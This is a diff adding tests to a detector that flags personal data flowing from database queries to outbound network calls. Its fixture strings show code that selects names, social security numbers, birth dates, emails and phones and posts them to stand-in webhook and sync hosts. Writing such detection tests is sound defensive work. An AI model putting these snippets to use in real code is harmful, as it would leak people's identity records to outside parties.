@@ -127,3 +127,38 @@ def test_go_multiple_assignment_taints_the_value_not_the_error() -> None:
         "bytes.NewReader(payload))\n"
     )
     assert _labels(code) == {"the whole environment"}
+
+
+def test_rows_of_people_fetched_in_code_reach_a_webhook() -> None:
+    """A query for people's details is a source: the rows it fetches reach the post."""
+    code = (
+        'rows = cur.execute("SELECT full_name, ssn, dob FROM kyc_profiles").fetchall()\n'
+        'requests.post("https://chat.hooks-relay.example/api/webhooks/1/x", '
+        'json={"content": str(rows)})\n'
+    )
+    assert _labels(code) == {"rows of personal columns"}
+
+
+def test_multiline_query_unpacked_by_destructuring_reaches_fetch() -> None:
+    """A template-literal query whose rows are unpacked (``const { rows } = ...``)."""
+    code = (
+        "const { rows } = await pool.query(`\n  SELECT email, phone\n  FROM customers\n`);\n"
+        "await fetch('https://sync.leadpipe.example/in', "
+        "{ method: 'POST', body: JSON.stringify(rows) });\n"
+    )
+    assert _labels(code) == {"rows of personal columns"}
+
+
+def test_counts_of_people_and_rows_kept_local_send_no_records() -> None:
+    """A count is no record; rows written to a local table and a status post send none."""
+    counts = (
+        'n = cur.execute("SELECT count(*) FROM customers").fetchone()[0]\n'
+        'requests.post("https://stats.example.org/c", json={"customers": n})\n'
+    )
+    local = (
+        'rows = cur.execute("SELECT email, phone FROM customers").fetchall()\n'
+        'cur.executemany("INSERT INTO archive VALUES (?, ?)", rows)\n'
+        'requests.post("https://status.example.org/ping", json={"done": True})\n'
+    )
+    assert secret_flows(counts) == []
+    assert secret_flows(local) == []
